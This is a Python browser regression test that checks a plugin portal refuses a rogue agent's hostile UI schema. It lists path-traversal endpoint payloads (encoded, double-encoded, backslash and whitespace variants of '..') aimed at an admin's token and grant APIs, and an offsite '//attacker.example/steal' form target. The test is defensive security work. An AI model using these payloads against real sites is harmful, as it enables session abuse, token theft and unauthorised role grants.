"""Issue 20, finding 1, in a real Chromium: a rogue agent's UI schema must not make its
plugin page act outside the plugin with the viewer's session.

The attack: a rogue agent announced ``auto_load: "%2e%2e/%2e%2e/api/v1/tokens/"`` (the
browser resolves ``%2e%2e`` to ``..``: the viewer's tokens were loaded with no click) and a
form posting hidden fields to ``%2e%2e/%2e%2e/api/v1/edges/alice-edge/grants`` (one click
by an admin granted the attacker a role on alice's edge). The viewer here is a site admin,
who sees every edge and is therefore the best target. Every request the page makes is
recorded; none may leave ``/rogue-edge/rogue/`` except the portal's own reads.
"""

from __future__ import annotations

import json
import re
from urllib.parse import urlsplit

import pytest

from tests.support.browser import WAIT_MS
from tests.support.live import LiveBridge, wait_for
from tests.test_portal_browser import login

from .rogue import RogueAgent, response

pytestmark = [pytest.mark.browser, pytest.mark.e2e, pytest.mark.filterwarnings("ignore::DeprecationWarning")]

ROGUE, VICTIM = "rogue-edge", "alice-edge"
PLUGIN_PREFIX = f"/{ROGUE}/rogue/"
ROUTES = [{"method": "GET", "path": "ping", "readonly": True}, {"method": "POST", "path": "do", "readonly": False},
          {"method": "GET", "path": "item/{a}/{b}", "readonly": True}]
TOKENS = "%2e%2e/%2e%2e/api/v1/tokens/"
GRANTS = f"%2e%2e/%2e%2e/api/v1/edges/{VICTIM}/grants"
GRANT_FIELDS = [{"name": "user", "type": "hidden", "default": "mallory"},
                {"name": "role", "type": "hidden", "default": "user"}]

# What the rogue agent announced in the attack.
ATTACK_SCHEMA = {
    "title": "Free GPU hours",
    "forms": [{"id": "claim", "title": "Claim", "fields": GRANT_FIELDS,
               "submit": {"label": "Claim", "endpoint": GRANTS, "method": "POST"}}],
    "monitors": [{"id": "mine", "title": "Mine", "type": "raw", "auto_load": TOKENS}],
}

# A schema that escapes every way we know of, beside parts that are fine: as it would be
# if stored by a bridge without the hello check, so that only the page stands in the way.
STORED_SCHEMA = {
    "title": "Stored before the check",
    "forms": [
        {"id": "grant", "title": "Grant", "fields": GRANT_FIELDS,
         "submit": {"label": "Grant", "endpoint": GRANTS, "method": "POST"}},
        {"id": "upper", "title": "Upper", "fields": GRANT_FIELDS,
         "submit": {"label": "Upper", "endpoint": "%2E%2E/%2e%2E/api/v1/edges/alice-edge/grants", "method": "POST"}},
        {"id": "double", "title": "Double", "fields": GRANT_FIELDS,
         "submit": {"label": "Double", "endpoint": "%252e%252e/%252e%252e/api/v1/tokens/", "method": "POST"}},
        {"id": "backslash", "title": "Backslash", "fields": GRANT_FIELDS,
         "submit": {"label": "Backslash", "endpoint": "..\\..\\api\\v1\\tokens\\", "method": "POST"}},
        {"id": "tabbed", "title": "Tabbed", "fields": GRANT_FIELDS,
         "submit": {"label": "Tabbed", "endpoint": ".\t./.\n./api/v1/tokens/", "method": "POST"}},
        {"id": "offsite", "title": "Offsite", "fields": GRANT_FIELDS,
         "submit": {"label": "Offsite", "endpoint": "//attacker.example/steal", "method": "POST"}},
        # The template is fine; the values filled into it spell "..".
        {"id": "filled", "title": "Filled", "fields": [{"name": "a", "type": "hidden", "default": ".."},
                                                         {"name": "b", "type": "hidden", "default": "%2e%2e"}],
         "submit": {"label": "Filled", "endpoint": "item/{a}/{b}/api/v1/tokens", "method": "GET"}},
        {"id": "without", "title": "Without", "fields": [{"name": "q", "type": "text"}],
         "submit": {"label": "Without", "endpoint": "item/{q}/x", "endpoint_without_q": TOKENS, "method": "GET"}},
        {"id": "options", "title": "Options",
         "fields": [{"name": "pick", "type": "select", "options": ["a"], "options_endpoint": TOKENS}],
         "submit": {"label": "Honest", "endpoint": "do", "method": "POST"}},
    ],
    "monitors": [
        {"id": "tokens", "title": "Tokens", "type": "raw", "auto_load": TOKENS},
        {"id": "endpoint", "title": "Endpoint", "type": "raw", "endpoint": TOKENS, "auto_load": True},
        {"id": "rows", "title": "Rows", "type": "task_list", "auto_load": "ping", "id_field": "id",
         "detail_endpoint": "item/{id}/{id}", "cancel_endpoint": GRANTS},
    ],
}


def answer(frame: dict) -> dict:
    if frame["path"] == "ping":
        return response(frame, 200, json.dumps({"items": [{"id": "..", "state": "RUNNING"}]}))
    return response(frame, 200, '{"ok": true}')


@pytest.fixture(scope="module")
def site(tmp_path_factory, sqlite_template):
    bridge = LiveBridge(tmp_path_factory.mktemp("hostile-ui") / "bridge")
    bridge.migrate(template=sqlite_template)
    bridge.start()
    seeded = bridge.seed(users=["alice", "mallory"], superusers=["root"], api_tokens=["alice", "root"],
                         edge_tokens=[(VICTIM, "alice"), (ROGUE, "mallory")])
    hello = {"type": "hello", "protocol": 1, "agent_version": "6.6.6", "host": {"hostname": "rogue"},
             "plugins": [{"name": "rogue", "version": "1", "routes": ROUTES, "ui_schema": ATTACK_SCHEMA}]}
    rogue = RogueAgent(bridge.url, seeded["edge"][ROGUE], hello=hello, answer=answer).start()
    assert rogue.welcome["type"] == "welcome", rogue.welcome
    wait_for(lambda: bridge.edge_online(seeded["api"]["root"], ROGUE), 20, what="rogue edge online")
    yield bridge, seeded
    rogue.stop()
    bridge.stop()


@pytest.fixture
def admin_page(browser, site):
    """A page logged in as the site admin, and the list of (method, path) it requested."""
    bridge, _ = site
    context = browser.new_context(base_url=bridge.url)
    page = context.new_page()
    requests: list[tuple[str, str, str]] = []
    page.on("request", lambda r: requests.append((r.method, urlsplit(r.url).netloc, urlsplit(r.url).path)))
    login(page, "root")
    requests.clear()
    yield page, requests
    context.close()


def assert_stayed_in_the_plugin(requests: list[tuple[str, str, str]], bridge: LiveBridge) -> None:
    """Every request went to the bridge; none to the tokens, the grants or anywhere else
    an admin's session can act; everything but the page's own reads went to the plugin."""
    host = urlsplit(bridge.url).netloc
    assert all(netloc == host for _, netloc, _ in requests), requests
    assert not [r for r in requests if "/api/v1/tokens" in r[2] or "grants" in r[2]], requests
    # The page's own reads: its scripts, the edge, the event stream, the notification bell.
    reads = re.compile(rf"^(/edges/{ROGUE}/plugins/rogue/|/static/|/events$|/api/v1/edges/({ROGUE}/)?$|/favicon"
                       r"|/api/v1/notifications/subscriptions/$)")
    outside = [r for r in requests if not r[2].startswith(PLUGIN_PREFIX) and not (r[0] == "GET" and reads.match(r[2]))]
    assert not outside, outside


def grants_of_victim(bridge: LiveBridge, seeded: dict) -> list:
    with bridge.client(seeded["api"]["alice"]) as c:
        return c.get(f"/api/v1/edges/{VICTIM}/grants").json()


def test_a_hostile_schema_announced_in_hello_is_refused_and_the_page_says_why(site, admin_page):
    from playwright.sync_api import expect

    bridge, seeded = site
    page, requests = admin_page
    page.goto(f"/edges/{ROGUE}/plugins/rogue/")
    expect(page.locator("#generic-root")).to_contain_text("This plugin's UI description was refused",
                                                          timeout=WAIT_MS)
    expect(page.locator("#generic-root")).to_contain_text("leave the plugin")
    assert page.get_by_role("button", name="Claim").count() == 0
    page.wait_for_load_state("networkidle")
    assert_stayed_in_the_plugin(requests, bridge)
    assert grants_of_victim(bridge, seeded) == []


def test_the_page_refuses_urls_that_leave_the_plugin_even_from_a_stored_schema(site, admin_page):
    from playwright.sync_api import expect

    bridge, seeded = site
    bridge.manage("shell", "-c", (
        "from bridge_app.models import PluginRegistration as P; "
        f"P.objects.filter(edge__name={ROGUE!r}, name='rogue').update(ui_schema={STORED_SCHEMA!r})"))
    page, requests = admin_page
    page.goto(f"/edges/{ROGUE}/plugins/rogue/")
    root = page.locator("#generic-root")
    for monitor in ("tokens", "endpoint"):
        expect(root.locator(f'[data-monitor="{monitor}"]')).to_contain_text("unusable endpoint", timeout=WAIT_MS)
    # The honest monitor loads; its row's id is "..", which the detail view refuses to fill in.
    rows = root.locator('[data-monitor="rows"]')
    expect(rows.locator("tbody")).to_contain_text("RUNNING", timeout=WAIT_MS)
    rows.get_by_role("button", name="..", exact=True).click()
    expect(rows.locator(".monitor-detail")).to_contain_text("refused to call")
    rows.get_by_role("button", name="Cancel ..").click()
    expect(rows).to_contain_text("unusable endpoint")

    expected = {"grant": "unusable endpoint", "upper": "unusable endpoint", "double": "unusable endpoint",
                "backslash": "unusable endpoint", "tabbed": "unusable endpoint", "offsite": "unusable endpoint",
                "filled": "refused to call", "without": "unusable endpoint", "options": "Done"}
    for form_id, text in expected.items():
        panel = root.locator(f'[data-form="{form_id}"]')
        panel.locator('button[type="submit"]').click()
        expect(panel).to_contain_text(text, timeout=WAIT_MS)
    page.wait_for_load_state("networkidle")
    assert ("POST", urlsplit(bridge.url).netloc, f"{PLUGIN_PREFIX}do") in requests  # the honest form was sent
    assert_stayed_in_the_plugin(requests, bridge)
    assert grants_of_victim(bridge, seeded) == []
